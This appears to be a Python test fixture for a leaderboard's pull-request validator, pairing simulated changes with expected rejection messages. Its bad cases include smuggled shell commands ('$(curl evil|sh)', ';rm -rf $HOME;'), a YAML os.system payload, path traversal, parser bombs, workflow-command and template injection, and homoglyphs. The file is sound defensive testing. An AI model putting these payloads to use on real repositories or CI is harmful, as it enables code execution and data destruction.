"""Pull requests as folders: a small checkout, and what each one does to a copy of it."""

import json
import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from compression_leaderboard.records.results import Result
from compression_leaderboard.repository.results import record_text

from tests import ROOT

SMOL = "HuggingFaceTB__SmolLM2-135M-Instruct@Q4_1"
SMOL_FILE = "runs/models/HuggingFaceTB/SmolLM2-135M-Instruct@Q4_1.toml"
NEW = "runs/models/org/small.toml"
TABLE = "results/published/huang-2024/table.csv"
LEDGER = "results/predictions/2026.jsonl"
COMMIT = "0123456789abcdef0123456789abcdef01234567"
MODEL = f"""name = "org/small"
family = "Small"
kind = "base"
parameters = 134515008
released = 2024-11-01
licence = "Apache-2.0"

[weights]
hub = "org/small"
revision = "{COMMIT}"
"""


@dataclass(frozen=True)
class PullRequest:
    """name, what it changes, and every line of the verdict; none: nothing is wrong."""

    name: str
    change: Callable[[Path], object]
    verdict: tuple[str, ...] = field(default=())


def make_base(folder: Path) -> None:
    """Part of this very repository: all specs, one record, one published table."""
    published = "results/published/huang-2024"
    for part in ("runs", published):
        shutil.copytree(ROOT / part, folder / part)
    write(folder, record_path(), a_record(ROOT).read_bytes())
    write(folder, LEDGER, '{"model": "a", "date": "2026-01-01"}\n')
    write(folder, "CHANGELOG.md", "# Changelog\n")
    write(folder, "generator/code.py", "x = 1\n")


def write(folder: Path, path: str, content: str | bytes) -> Path:
    (folder / path).parent.mkdir(parents=True, exist_ok=True)
    raw = content.encode() if isinstance(content, str) else content
    (folder / path).write_bytes(raw)
    return folder / path


def edit(folder: Path, path: str, old: str, new: str) -> None:
    text = (folder / path).read_text("utf-8")
    assert old in text
    write(folder, path, text.replace(old, new, 1))


def add(path: str = NEW, content: str | bytes = MODEL) -> Callable[[Path], object]:
    return lambda head: write(head, path, content)


def model(old: str, new: str, path: str = NEW) -> Callable[[Path], object]:
    """A new model's file that differs from a good one."""
    assert old in MODEL
    return lambda head: write(head, path, MODEL.replace(old, new))


def both(*changes: Callable[[Path], object]) -> Callable[[Path], object]:
    return lambda head: [change(head) for change in changes]


def a_record(head: Path) -> Path:
    return sorted((head / "results/measured" / SMOL).rglob("corpus-sotu-128/*.json"))[0]


def record_path(root: Path = ROOT) -> str:
    return a_record(root).relative_to(root).as_posix()


def changed_record(head: Path, **changes: Any) -> Result:
    return Result.model_validate_json(a_record(head).read_bytes()).model_copy(update=changes)


def add_record(head: Path, result: Result, name: str | None = None) -> None:
    path = Path("results/measured") / result.file
    write(head, str(path.with_name(name) if name else path), record_text(result))


def move(old: str, new: str) -> Callable[[Path], object]:
    def change(head: Path) -> None:
        (head / new).parent.mkdir(parents=True, exist_ok=True)
        (head / old).rename(head / new)

    return change


def link(head: Path) -> None:
    (head / "runs/models/org").mkdir()
    (head / NEW).symlink_to("/dev/zero")


def retract(head: Path) -> None:
    content = json.loads(a_record(head).read_text()) | {"retracted": "wrong tokenizer"}
    a_record(head).write_text(json.dumps(content))


def remove_model(head: Path) -> None:
    """As git does: a folder that holds nothing more goes as well."""
    (head / SMOL_FILE).unlink()
    (head / SMOL_FILE).parent.rmdir()


def remove_record(head: Path) -> None:
    path = a_record(head)
    path.unlink()
    os.removedirs(path.parent)


def touch_record(head: Path) -> None:
    edit(head, record_path(), '"bits_per_byte": ', '"bits_per_byte": 0')


def belongs(run_id: str, revision: str | None = None) -> str:
    """Where a record of SmolLM2 on the text belongs."""
    _, _, model, own, job, _ = record_path().split("/")
    return f"results/measured/{model}/{revision or own}/{job}/{run_id}.json"


def names_in(folder: str) -> str:
    return ", ".join(sorted(path.stem for path in (ROOT / "runs" / folder).glob("*.toml")))


NOBODYS = "sha256-" + "d" * 40
NEVER_EDITED = "records are never edited: restore it from git or measure again"
SPLIT = "split it: models and results in one pull request, everything else in another"
RESTORE = "restore it from the base branch"
NAMING = "name it with ASCII letters, digits, . _ - @ only, none of them . or - first"
PLAIN = "has a name that is not allowed"
ORG = "use letters, digits, . _ - only"
EXPECTED = "is in the wrong folder or of the wrong kind; expected"
UNPINNED = (
    "pin the 40-hex id shown on the model's Files page (weights that are not on the Hub: sha256- "
    "and the first 40 hex of their SHA-256)"
)
ROW = "org/tiny,Tiny-1b,Tiny,1000000000,,,0.7,0.4,0.5,0.533,,0.5,,,,,,\n"

GOOD = [
    PullRequest("nothing", lambda head: None),
    PullRequest("a model", add()),
    PullRequest("a model and a line in the changelog", both(add(), add("CHANGELOG.md", "# C\n"))),
    PullRequest("code only", add("generator/code.py", "import os; os.abort()\n")),
    PullRequest("a workflow only", add(".github/workflows/x.yml", "on: push\n")),
    PullRequest(
        "a YAML bomb among tasks, which is never parsed here",
        add("runs/tasks/bomb.yaml", "a: &a [x]\nb: &b [*a,*a]\nc: [*b,*b,*b]\n" * 9),
    ),
    PullRequest(
        "a published row",
        lambda head: write(head, TABLE, (head / TABLE).read_text() + ROW),
    ),
    PullRequest(
        "a figure corrected, with a line in the changelog",
        both(lambda head: edit(head, TABLE, "0.572", "0.573"), add("CHANGELOG.md", "# D\n")),
    ),
    PullRequest("a retraction mark", retract),
    PullRequest("a record", lambda head: add_record(head, changed_record(head, replaces="b" * 12))),
    PullRequest(
        "a line more in a ledger",
        lambda head: write(head, LEDGER, (head / LEDGER).read_text() + '{"model": "b"}\n'),
    ),
    PullRequest("a note on a model", lambda head: edit(head, SMOL_FILE, "note = ", "note = ")),
]

BAD = [
    PullRequest(
        "model and code",
        both(add(), add("generator/code.py", "x = 2\n"), add(".github/workflows/x.yml", "")),
        (
            f".github/workflows/x.yml: is not data (and 1 more), and this pull request changes "
            f"{NEW} as well; {SPLIT}",
        ),
    ),
    PullRequest(
        "model and a submodule",
        both(add(), add(".gitmodules", ""), lambda head: (head / "runs/models/sub").mkdir()),
        (
            f".gitmodules: is not data, and this pull request changes runs/models/org/small.toml "
            f"as well; {SPLIT}",
            "runs/models/sub: is a submodule or an empty folder; add plain files only",
            f"runs/models/sub: {EXPECTED} runs/models/<org>/<model>.toml",
        ),
    ),
    PullRequest(
        "weights.path that climbs out",
        model('hub = "org/small"', 'path = "../../etc"'),
        (
            f'{NEW}: weights.path: "../../etc" climbs out of the folder; '
            "give a relative path without ..",
        ),
    ),
    PullRequest(
        "a name that climbs out",
        model('name = "org/small"', 'name = "../small"'),
        (f'{NEW}: name: "../small" is not of the form org/model; {ORG}',),
    ),
    PullRequest(
        "a TOML bomb of brackets",
        add(content="a = " + "[\n" * 30_000),
        (f"{NEW}: is nested too deeply; a spec has tables and lists",),
    ),
    PullRequest(
        "a TOML bomb of dotted keys, which would take minutes to read",
        add(content="a" + ".a" * 30_000 + " = 1\n"),
        (f"{NEW}: line 1: has 60005 characters, at most 1200 are read; write shorter lines",),
    ),
    PullRequest(
        "a file of 10 MB",
        add(content=MODEL + "# " + "x" * 10_000_000),
        (
            f"{NEW}: has {len(MODEL) + 10_000_002} bytes, at most 65536 are read; "
            "leave out what does not belong in it",
        ),
    ),
    PullRequest(
        "a record of 10 MB",
        add(f"results/measured/{SMOL}/x.json", "[" + "0," * 5_000_000),
        (
            f"results/measured/{SMOL}/x.json: has 10000001 bytes, at most 8388608 are read; "
            "leave out what does not belong in it",
        ),
    ),
    PullRequest(
        "a file name with a Cyrillic letter",
        add("runs/models/оrg/small.toml"),
        (f"runs/models/оrg/small.toml: {PLAIN}; {NAMING}",),
    ),
    PullRequest(
        "a family with a Cyrillic letter",
        model('"Small"', '"Smаll"'),
        (
            f'{NEW}: family: "Smаll" mixes Cyrillic and Latin letters that look alike; '
            "write it in one alphabet",
        ),
    ),
    PullRequest(
        "a name of shell metacharacters",
        model('name = "org/small"', 'name = "org/$(curl evil|sh)"'),
        (f'{NEW}: name: "org/$(curl evil|sh)" is not of the form org/model; {ORG}',),
    ),
    PullRequest(
        "a file name of shell metacharacters",
        add("runs/models/org/;rm -rf $HOME;.toml"),
        (f"runs/models/org/;rm -rf $HOME;.toml: {PLAIN}; {NAMING}",),
    ),
    PullRequest(
        "braces of a template",
        model('"Small"', '"{{ config.extra }}"'),
        (f'{NEW}: family: has "{{{{", the mark of a template; write it without such braces',),
    ),
    PullRequest(
        "a statement of a template",
        model('licence = "Apache-2.0"', 'licence = "{% include x %}"'),
        (f'{NEW}: licence: has "{{%", the mark of a template; write it without such braces',),
    ),
    PullRequest(
        "a workflow command in a text",
        model('"Small"', '"::set-output name=token::x"'),
        (f"{NEW}: family: reads like a workflow command; write it without :: or ##[ at the start",),
    ),
    PullRequest(
        "a workflow command after a line end",
        model('"Small"', '"x\\n::set-output name=token::x"'),
        (f"{NEW}: family: has the invisible character U+000A; write one line of text",),
    ),
    PullRequest(
        "a workflow command as a field",
        model("[weights]", '[weights]\n"a\\n::error::x" = 1'),
        (
            f"{NEW}: weights.a\\n::error::x: unknown field; remove it; known fields: hub, package, "
            "file, sha256sums, path, revision, quantization",
        ),
    ),
    PullRequest(
        "a symbolic link to an endless file",
        link,
        (f"{NEW}: is a symbolic link; replace it with the file itself",),
    ),
    PullRequest(
        "a changed record",
        touch_record,
        (
            f"{record_path()}: is not valid JSON: invalid number at line 70 column 21; "
            "fix it, restore it from git or measure again",
            f"{record_path()}: line 70: was edited, and a record may only be marked as retracted; "
            f"{RESTORE}",
        ),
    ),
    PullRequest(
        "a removed record",
        remove_record,
        (
            f"{record_path()}: a file of results is removed; restore it; mark a wrong record "
            'with "retracted": "reason"',
        ),
    ),
    PullRequest(
        "a deleted model",
        remove_model,
        (
            f"{SMOL_FILE}: a model of the board is removed or renamed; restore the file, and "
            "add a new file for a new name",
            "runs/profiles/quick.toml: models: unknown model "
            f'"{SMOL}"; choose from google__gemma-3-270m@Q4_K_M, ladder__Ladder-0.3M, '
            "ladder__Ladder-0.9M, ladder__Ladder-2.5M",
            f'runs/sentinel.toml: model: unknown model "{SMOL}"; choose from '
            "google__gemma-3-270m@Q4_K_M, ladder__Ladder-0.3M, ladder__Ladder-0.9M, "
            "ladder__Ladder-2.5M",
        ),
    ),
    PullRequest(
        "a renamed model",
        both(
            move("runs/models/ladder/Ladder-0.3M.toml", "runs/models/ladder/Step-0.3M.toml"),
            lambda head: edit(
                head, "runs/models/ladder/Step-0.3M.toml", "ladder/Ladder-0.3M", "ladder/Step-0.3M"
            ),
        ),
        (
            "runs/models/ladder/Ladder-0.3M.toml: a model of the board is removed or "
            "renamed; restore the file, and add a new file for a new name",
        ),
    ),
    PullRequest(
        "the weights of another model",
        lambda head: write(
            head,
            "runs/models/org/copy@Q4_1.toml",
            (head / SMOL_FILE)
            .read_text()
            .replace("HuggingFaceTB/SmolLM2-135M-Instruct", "org/copy"),
        ),
        (
            f"runs/models/org/copy@Q4_1.toml: weights.revision: these are the weights of {SMOL}; "
            "keep that model's file only",
        ),
    ),
    PullRequest(
        "a binary file",
        add(content=b"\x93NUMPY\xff\xfe\x00\x01"),
        (f"{NEW}: is not UTF-8 text; save it as UTF-8; use no binary files",),
    ),
    PullRequest(
        "an id that differs in case alone",
        both(
            add(), model('name = "org/small"', 'name = "Org/small"', "runs/models/Org/small.toml")
        ),
        (
            f'{NEW}: name: duplicate model "org__small", already in runs/models/Org/small.toml; '
            "remove one of the two files",
        ),
    ),
    PullRequest(
        "a model in another's folder",
        add("runs/models/elsewhere/small.toml"),
        (
            'runs/models/elsewhere/small.toml: name: "org__small" does not belong in this file; '
            f"move it to {NEW}",
        ),
    ),
    PullRequest(
        "a model that is no TOML file",
        add("runs/models/org/small.yaml", "!!python/object/apply:os.system [id]\n"),
        (f"runs/models/org/small.yaml: {EXPECTED} runs/models/<org>/<model>.toml",),
    ),
    PullRequest(
        "results beside the folders",
        add("results/better/small.json", "{}"),
        (
            f"results/better/small.json: {EXPECTED} results/imported/, results/measured/, "
            "results/published/, runs/models/",
        ),
    ),
    PullRequest(
        "an executable",
        lambda head: write(head, NEW, MODEL).chmod(0o755),
        (f"{NEW}: is executable; run `git update-index --chmod=-x {NEW}`",),
    ),
    PullRequest(
        "line ends of Windows",
        add(content=MODEL.replace("\n", "\r\n")),
        (f"{NEW}: has Windows line endings (CR LF); save it with LF only",),
    ),
    PullRequest(
        "a byte order mark",
        add(content="\ufeff" + MODEL),
        (f"{NEW}: line 1: has the invisible character U+FEFF; remove it",),
    ),
    PullRequest(
        "NUL",
        add(content=MODEL + "# \0\n"),
        (f"{NEW}: line {MODEL.count(chr(10)) + 1}: has the invisible character U+0000; remove it",),
    ),
    PullRequest(
        "text that runs backwards",
        add(content=MODEL.replace('"Small"', '"Small" # \u202e')),
        (f"{NEW}: line 2: has the invisible character U+202E; remove it",),
    ),
    PullRequest(
        "an edited line of a ledger",
        lambda head: edit(head, LEDGER, "2026-01-01", "2025-01-01"),
        (f"{LEDGER}: line 1: was edited, and lines of a ledger are only added; {RESTORE}",),
    ),
    PullRequest(
        "a published figure changed in silence",
        lambda head: edit(head, TABLE, "0.572", "0.372"),
        (f"{TABLE}: line 2: a published figure is changed or gone; say why in CHANGELOG.md",),
    ),
    PullRequest(
        "a template in a published table",
        lambda head: write(head, TABLE, (head / TABLE).read_text() + ROW.replace("Tiny", "{{x}}")),
        tuple(
            f'{TABLE}: line 30.{column}: has "{{{{", the mark of a template; '
            "write it without such braces"
            for column in ("family", "name")
        ),
    ),
    PullRequest(
        "a retraction with another change",
        both(retract, lambda head: edit(head, record_path(), '"threads": ', '"threads": 1')),
        (
            f"{record_path()}: its content does not belong in this file; it belongs in "
            f"{belongs('ccebb3ec0ce2')}; {NEVER_EDITED}",
            f"{record_path()}: line 1: was edited, and a record may only be marked as retracted; "
            f"{RESTORE}",
        ),
    ),
    PullRequest(
        "a record under a wrong run id",
        lambda head: add_record(head, changed_record(head, replaces="b" * 12), "c" * 12 + ".json"),
        (
            f"{belongs('c' * 12)}: its content does not belong in this "
            f"file; it belongs "
            f"in {belongs('bf4c3827d66b')}; {NEVER_EDITED}",
        ),
    ),
    PullRequest(
        "a record of weights that nobody asked for",
        lambda head: add_record(head, changed_record(head, revision=NOBODYS)),
        (
            f"{belongs('a397379fd16e', NOBODYS)}: revision {NOBODYS} is "
            f"not in the "
            "model's file; measure it for the model's file of this pull request",
        ),
    ),
    PullRequest(
        "a suite and a text that do not exist",
        model("\n[weights]", 'suites = ["none"]\ncorpora = ["nothing"]\n\n[weights]'),
        (
            f'{NEW}: corpora: unknown corpus "nothing"; choose from {names_in("corpora")}',
            f'{NEW}: suites: unknown suite "none"; choose from {names_in("suites")}',
        ),
    ),
    PullRequest(
        "a branch as a revision",
        model(COMMIT, "main"),
        (f'{NEW}: weights.revision: "main" is not a commit; {UNPINNED}',),
    ),
    PullRequest(
        "everything at once",
        both(
            model('kind = "base"', 'kind = "chat"'),
            add("runs/models/org/other.toml", b"\xff"),
            lambda head: edit(head, LEDGER, "2026", "2025"),
        ),
        (
            f"{LEDGER}: line 1: was edited, and lines of a ledger are only added; {RESTORE}",
            "runs/models/org/other.toml: is not UTF-8 text; save it as UTF-8; use no binary files",
            f"{NEW}: kind: \"chat\" is not allowed; it should be 'base' or 'instruct'",
        ),
    ),
]
